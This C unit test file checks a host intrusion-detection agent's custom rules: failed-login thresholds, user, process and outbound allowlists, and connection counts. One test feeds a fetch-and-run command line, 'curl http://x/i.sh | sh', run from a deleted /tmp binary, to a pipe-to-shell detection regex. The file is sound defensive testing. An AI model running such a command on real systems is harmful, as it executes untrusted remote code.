/* custom: user rules from Custom_Rules, applied as a twin patch would. */
//needs: detector custom
#include "detect_harness.h"

static void rules(const char *json)
{
	char *doc = NULL;
	assert_true(asprintf(&doc, "{\"Custom_Rules\":%s}", json) > 0);
	h_config(doc);
	free(doc);
}

static void login(const char *op, const char *addr, const char *user)
{
	h_feed("Login", "{\"Operation\":\"%s\",\"RemoteAddress\":\"%s\",\"UserName\":\"%s\",\"Executable\":\"sshd\","
			"\"Terminal\":\"ssh\",\"Weight\":1}", op, addr, user);
}

static void threshold_rule_over_login_events(void **state)
{
	(void)state;
	rules("[{\"id\":\"admin-fails\",\"type\":\"threshold\",\"event\":\"Login\",\"severity\":\"High\","
	      "\"match\":{\"Operation\":\"LoginFailed\",\"UserName\":{\"regex\":\"^(root|admin)$\"}},"
	      "\"group_by\":\"RemoteAddress\",\"threshold\":3,\"window_seconds\":60}]");
	login("LoginFailed", "192.0.2.1", "admin");
	login("LoginFailed", "192.0.2.1", "pi");   /* not matched */
	login("LoginFailed", "192.0.2.2", "root"); /* another group */
	login("LoginFailed", "192.0.2.1", "root");
	h_advance(5);
	assert_int_equal(h_total(), 0);
	login("LoginFailed", "192.0.2.1", "admin");
	assert_int_equal(h_count("Custom:admin-fails", "Active"), 1);
	cJSON *a = h_alert("Custom:admin-fails", "Active", 0);
	assert_string_equal(h_str(a, "Severity"), "High");
	assert_string_equal(h_str(a, "Evidence.Rule"), "admin-fails");
	assert_string_equal(h_str(a, "Evidence.Group.RemoteAddress"), "192.0.2.1");
	assert_int_equal(h_num(a, "Evidence.Count"), 3);
	assert_string_equal(h_str(a, "Evidence.LastEntry.UserName"), "admin");
	login("LoginFailed", "192.0.2.1", "admin");
	assert_int_equal(h_count("Custom:admin-fails", "Active"), 1);
	h_advance(30);
	assert_int_equal(h_count("Custom:admin-fails", "Ended"), 0);
	h_advance(60);
	assert_int_equal(h_count("Custom:admin-fails", "Ended"), 1);
}

static void bad_rules_are_skipped_and_good_ones_work(void **state)
{
	(void)state;
	rules("[{\"id\":\"bad-threshold\",\"type\":\"threshold\",\"event\":\"Login\",\"threshold\":\"many\"},"
	      "{\"id\":\"bad-regex\",\"type\":\"threshold\",\"event\":\"Login\",\"threshold\":1,"
	      "\"match\":{\"UserName\":{\"regex\":\"(unclosed\"}}},"
	      "{\"id\":\"bad-type\",\"type\":\"sometimes\"},"
	      "{\"id\":\"bad-severity\",\"type\":\"failed_logins\",\"threshold\":1,\"severity\":\"Urgent\"},"
	      "{\"id\":\"fails\",\"type\":\"failed_logins\",\"threshold\":2,\"window_seconds\":600}]");
	login("LoginFailed", "192.0.2.9", "x");
	login("LoginFailed", "192.0.2.9", "x");
	assert_int_equal(h_total(), 1);
	assert_int_equal(h_count("Custom:fails", "Active"), 1);
}

static void structurally_bad_rules_are_refused(void **state)
{
	(void)state;
	const char *bad[] = { "{\"Custom_Rules\":{\"id\":\"x\"}}", "{\"Custom_Rules\":[1,2]}",
			      "{\"Custom_Rules\":[{\"type\":\"threshold\"}]}", "{\"Custom_Rules\":\"[not json\"}" };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		cJSON *doc = cJSON_Parse(bad[i]);
		cJSON *inv = agent_apply_desired(&H, doc, false);
		assert_int_equal(cJSON_GetArraySize(inv), 1);
		assert_string_equal(cJSON_GetArrayItem(inv, 0)->valuestring, "Custom_Rules");
		cJSON_Delete(inv);
		cJSON_Delete(doc);
	}
	/* the array may come as a string (twins) */
	h_config("{\"Custom_Rules\":\"[{\\\"id\\\":\\\"u\\\",\\\"type\\\":\\\"user_allowlist\\\",\\\"users\\\":[\\\"root\\\"]}]\"}");
	login("Login", "192.0.2.3", "mallory");
	assert_int_equal(h_count("Custom:u", "Active"), 1);
}

static void user_allowlist(void **state)
{
	(void)state;
	rules("[{\"id\":\"users\",\"type\":\"user_allowlist\",\"users\":[\"root\",\"admin\"],\"window_seconds\":600}]");
	login("Login", "192.0.2.3", "root");
	login("LoginFailed", "192.0.2.3", "mallory");
	assert_int_equal(h_total(), 0);
	login("Login", "192.0.2.3", "mallory");
	cJSON *a = h_alert("Custom:users", "Active", 0);
	assert_non_null(a);
	assert_string_equal(h_str(a, "Severity"), "Medium");
	assert_string_equal(h_str(a, "Evidence.UserName"), "mallory");
	h_advance(601);
	assert_int_equal(h_count("Custom:users", "Ended"), 1);
}

static void sockets(int established, bool outbound_public)
{
	h_sock_reset();
	h_sock_add("tcp", "0.0.0.0", 22, "0.0.0.0", 0, "LISTEN", 1, 10);
	for (int i = 0; i < established; i++)
		h_sock_add("tcp", "10.0.2.15", 22, "203.0.113.1", 40000 + i, "ESTABLISHED", 100 + i, 10); /* inbound */
	h_sock_add("tcp", "10.0.2.15", 50000, "10.20.30.40", 8883, "ESTABLISHED", 300, 11);        /* allowed */
	if (outbound_public)
		h_sock_add("tcp", "10.0.2.15", 50001, "198.51.100.66", 443, "ESTABLISHED", 301, 12);
	h_sock_send();
}

static void connection_range_and_outbound_allowlist(void **state)
{
	(void)state;
	rules("[{\"id\":\"conns\",\"type\":\"active_connections\",\"min\":1,\"max\":5},"
	      "{\"id\":\"egress\",\"type\":\"outbound_allowlist\",\"cidrs\":[\"10.0.0.0/8\"],\"severity\":\"High\"}]");
	sockets(2, false);
	h_advance(10);
	assert_int_equal(h_total(), 0);
	sockets(6, true);
	h_advance(10);
	cJSON *a = h_alert("Custom:conns", "Active", 0);
	assert_non_null(a);
	assert_int_equal(h_num(a, "Evidence.ActiveConnections"), 8);
	a = h_alert("Custom:egress", "Active", 0);
	assert_non_null(a);
	assert_string_equal(h_str(a, "Evidence.RemoteAddress"), "198.51.100.66");
	assert_int_equal(h_count("Custom:egress", "Active"), 1);
	sockets(2, false);
	h_advance(10);
	assert_int_equal(h_count("Custom:conns", "Ended"), 1);
	assert_int_equal(h_count("Custom:egress", "Ended"), 1);
}

static void process_allowlist_and_regex_threshold(void **state)
{
	(void)state;
	rules("[{\"id\":\"procs\",\"type\":\"process_allowlist\",\"executables\":[\"/usr/bin/*\",\"/sbin/*\",\"sshd\"]},"
	      "{\"id\":\"pipe-to-shell\",\"type\":\"threshold\",\"event\":\"ProcessSample\",\"threshold\":1,"
	      "\"match\":{\"CommandLine\":{\"regex\":\"(curl|wget) .*[|] *(ba)?sh\"}},\"group_by\":\"ProcessId\"}]");
	h_process(1, "init", "/sbin/init", "init", 1, "", "");
	h_process(20, "sshd", "/usr/sbin/sshd", "sshd -D", 1, "", "");
	h_process(21, "python3", "/usr/bin/python3.11", "python3 app.py", 1, "", "");
	h_advance(5);
	assert_int_equal(h_total(), 0);
	h_process(1, "init", "/sbin/init", "init", 1, "", "");
	h_process(66, "sh", "/tmp/.cache/sh (deleted)", "sh -c curl http://x/i.sh | sh", 1, "", "");
	h_advance(5);
	assert_int_equal(h_count("Custom:procs", "Active"), 1);
	assert_int_equal(h_count("Custom:pipe-to-shell", "Active"), 1);
	assert_string_equal(h_str(h_alert("Custom:procs", "Active", 0), "Evidence.Executable"), "/tmp/.cache/sh (deleted)");
	h_process(1, "init", "/sbin/init", "init", 1, "", "");
	h_advance(10);
	h_process(1, "init", "/sbin/init", "init", 1, "", "");
	h_advance(10);
	assert_int_equal(h_count("Custom:procs", "Ended"), 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(threshold_rule_over_login_events, h_setup, h_teardown),
		cmocka_unit_test_setup_teardown(bad_rules_are_skipped_and_good_ones_work, h_setup, h_teardown),
		cmocka_unit_test_setup_teardown(structurally_bad_rules_are_refused, h_setup, h_teardown),
		cmocka_unit_test_setup_teardown(user_allowlist, h_setup, h_teardown),
		cmocka_unit_test_setup_teardown(connection_range_and_outbound_allowlist, h_setup, h_teardown),
		cmocka_unit_test_setup_teardown(process_allowlist_and_regex_threshold, h_setup, h_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
